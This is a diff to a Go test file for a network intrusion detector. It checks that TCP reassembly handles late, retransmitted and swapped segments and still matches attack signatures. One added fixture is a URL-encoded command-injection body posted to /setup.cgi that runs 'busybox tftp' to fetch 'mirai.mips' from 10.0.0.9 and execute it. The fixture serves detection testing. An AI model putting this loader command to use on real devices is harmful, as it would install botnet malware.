@@ -170,9 +170,11 @@ func TestStreamRetransmitAndReorder(t *testing.T) {
 				{sport: p, dport: 23, seq: 130, payload: line[30:]}}
 		}, []string{want}},
 		{"a segment late, then the rest", func(p uint16) []tseg {
+			// The third segment is held until the late second one
+			// arrives: the first line is read whole; then the line again.
 			return []tseg{{sport: p, dport: 23, seq: 100, payload: line[:10]}, {sport: p, dport: 23, seq: 120, payload: line[20:]},
 				{sport: p, dport: 23, seq: 110, payload: line[10:20]}, {sport: p, dport: 23, seq: 100 + uint32(len(line)), payload: line}}
-		}, []string{want}},
+		}, []string{want, want}},
 	}
 	for i, c := range cases {
 		p := uint16(2000 + i)
@@ -481,7 +483,9 @@ func TestStreamLongCommandFloodBounded(t *testing.T) {
 	var rec evidencetest.Recorder
 	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{Streams: 256, StreamTail: 256})
 	at := baseTime
-	body := strings.Repeat("x%20t%20", 60) // 480 bytes a segment, never a command
+	// 480 bytes a segment, never a command, ending in a word the next
+	// segment continues.
+	body := strings.Repeat("x%20t%20", 59) + "x%20%tf"
 	var frames [][]byte
 	for i := range 1024 {
 		src := net.IP{10, 1, byte(i >> 8), byte(i)}
@@ -549,6 +553,43 @@ func TestStreamReordered(t *testing.T) {
 		}
 		if st.StreamHeld == 0 {
 			t.Errorf("line %d: nothing held", li)
+		}
+	}
+
+	// The line's halves swapped as a connection's very first bytes, no
+	// handshake seen: the second half is read as the stream's start, and
+	// the first, arriving to end where it began, is read together with
+	// its first command; what that command gave alone is not given again.
+	for li, l := range loaderLines {
+		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
+		want := found(whole, 50000)
+		var segs []tseg
+		sport := uint16(1024)
+		for k := 1; k < len(l.line); k++ {
+			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(k), payload: l.line[k:]},
+				tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:k]},
+				tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:k]}) // and its retransmission
+			sport++
+		}
+		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+		for p := uint16(1024); p < sport; p++ {
+			if got := found(evs, p); !slices.Equal(got, want) {
+				t.Errorf("line %d, first bytes swapped at %d: %v, want %v", li, p-1024+1, got, want)
+			}
+		}
+	}
+
+	// A web request's header segment, then its body's halves swapped.
+	body := "cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d"
+	head := "POST /setup.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Length: 84\r\n\r\n"
+	for k := 1; k < len(body); k++ {
+		p := uint16(20000 + k)
+		segs := []tseg{{sport: p, dport: 80, seq: 1, payload: head},
+			{sport: p, dport: 80, seq: 1 + uint32(len(head)+k), payload: body[k:]},
+			{sport: p, dport: 80, seq: 1 + uint32(len(head)), payload: body[:k]}}
+		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+		if got := found(evs, p); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
+			t.Errorf("body swapped at %d: %v", k, got)
 		}
 	}
 
